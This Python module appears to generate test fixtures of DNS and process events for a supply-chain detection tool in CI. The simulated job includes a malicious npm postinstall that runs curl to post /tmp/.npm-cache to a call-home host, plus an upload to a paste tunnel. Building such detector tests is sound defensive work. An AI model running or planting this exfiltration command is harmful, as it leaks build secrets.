"""Events of a job that no machine ran, as lines of JSON: an install whose package calls home, a build, a container."""

import datetime
import json

BEGAN = datetime.datetime(2026, 3, 31, 0, 21, 0, tzinfo=datetime.timezone.utc)


class SampleJob:
    def __init__(self):
        self.events = []

    def process(self, pid, executable, argv, parent=None, **fields):
        started = BEGAN + datetime.timedelta(milliseconds=pid - 4000)
        ancestors = [] if parent is None else [self._bare(parent), *parent.get("ancestors", [])]
        return {"pid": pid, "start_time": self._text(started), "comm": executable.rpartition("/")[2][:15],
                "executable": executable, "command_line": argv, "user": "runner", "uid": 1001, "cwd": "/srv/app",
                "ancestors": ancestors, **fields}

    def ask(self, process, name, second, record_type="A", rule=None, action="ACTION_AUDITED", **fields):
        event = {"schema_version": 1, "event_id": f"{len(self.events):08x}", "sequence": str(len(self.events) + 1),
                 "time": self._text(BEGAN + datetime.timedelta(seconds=second)),
                 "kind": "KIND_MATCH" if rule else "KIND_QUERY", "dns": {"query": name, "record_type": record_type},
                 "process": process, "host": {"name": "runner-7", "boot_id": "b"}, **fields}
        if rule:
            event |= {"rules": [rule], "action": action, "alert": True}
        self.events.append(event)

    def write(self, path):
        path.write_text("".join(json.dumps(event) + "\n" for event in self.events))
        return path

    @staticmethod
    def _bare(process):
        return {key: value for key, value in process.items() if key != "ancestors"}

    @staticmethod
    def _text(moment):
        return moment.isoformat().replace("+00:00", "Z")


def step(name):
    return {"ci": {"system": "github-actions", "repository": "acme/shop", "job": "build", "step": name}}


def package_of(name, version, script, **origin):
    return {**origin, "package": {"manager": "npm", "name": name, "version": version, "script": script}}


CALLS_HOME = {"id": "4f5b1c1e-0001", "title": "Name of the axios compromise", "level": "high", "file": "rules/axios.yml"}
FREE_HOSTING = {"id": "4f5b1c1e-0002", "title": "Tunnel or paste service", "level": "medium", "file": "rules/tunnels.yml"}


def sample_job():
    job = SampleJob()
    runner = job.process(2210, "/opt/runner/bin/Runner.Worker", ["Runner.Worker", "spawnclient"])
    install = job.process(4100, "/usr/bin/bash", ["bash", "-e", "/srv/_temp/install.sh"], runner)
    npm = job.process(4120, "/usr/bin/node", ["node", "/usr/bin/npm", "ci"], install)
    for at, host in enumerate(("registry.npmjs.org", "codeload.github.com")):
        for record_type in ("A", "AAAA"):
            for second in range(2, 40, 5):
                job.ask(npm, host, second + at, record_type, origin=step("install"))
    script = package_of("plain-crypto-js", "4.2.1", "postinstall", **step("install"))
    shell = job.process(4310, "/usr/bin/dash", ["sh", "-c", "node setup.js"], npm)
    setup = job.process(4311, "/usr/bin/node", ["node", "setup.js"], shell)
    for record_type in ("A", "AAAA"):
        job.ask(setup, "sfrclak.com", 31, record_type, CALLS_HOME, "ACTION_BLOCKED", origin=script)
    curl = job.process(4330, "/usr/bin/curl", ["curl", "-s", "-d", "@/tmp/.npm-cache", "http://sfrclak.com:8000/6202033"], setup)
    job.ask(curl, "sfrclak.com", 33, "A", CALLS_HOME, "ACTION_BLOCKED", origin=script)
    sharp = package_of("sharp", "0.33.5", "install", **step("install"))
    fetch = job.process(4352, "/usr/bin/node", ["node", "install/check"], npm)
    job.ask(fetch, "github.com", 35, origin=sharp)
    job.ask(fetch, "objects.githubusercontent.com", 36, origin=sharp)
    compile_step = job.process(5200, "/usr/bin/bash", ["bash", "-e", "/srv/_temp/compile.sh"], runner)
    make = job.process(5201, "/usr/bin/make", ["make", "-j4", "dist"], compile_step)
    docker = job.process(5300, "/usr/bin/runc", ["runc", "run", "postgres"], job.process(900, "/usr/bin/containerd", ["containerd"]))
    job.ask(docker, "primary.db.internal", 52, "SRV", container={"id": "c0ffee", "runtime": "docker", "name": "db", "image": "postgres:16"})
    for number in range(6):
        gcc = job.process(5210 + number, "/usr/bin/curl", ["curl", "-fsSLO", f"https://mirror{number}.example.org/lib.tar.gz"], make)
        for second in (48, 49 + number * 2):
            job.ask(gcc, f"mirror{number}.example.org", second, origin=step("compile"))
    tunnel = job.process(5400, "/usr/bin/python3", ["python3", "scripts/upload.py", "--to", "paste"], compile_step)
    job.ask(tunnel, "paste.ngrok.example", 66, "A", FREE_HOSTING, origin=step("compile"))
    return job
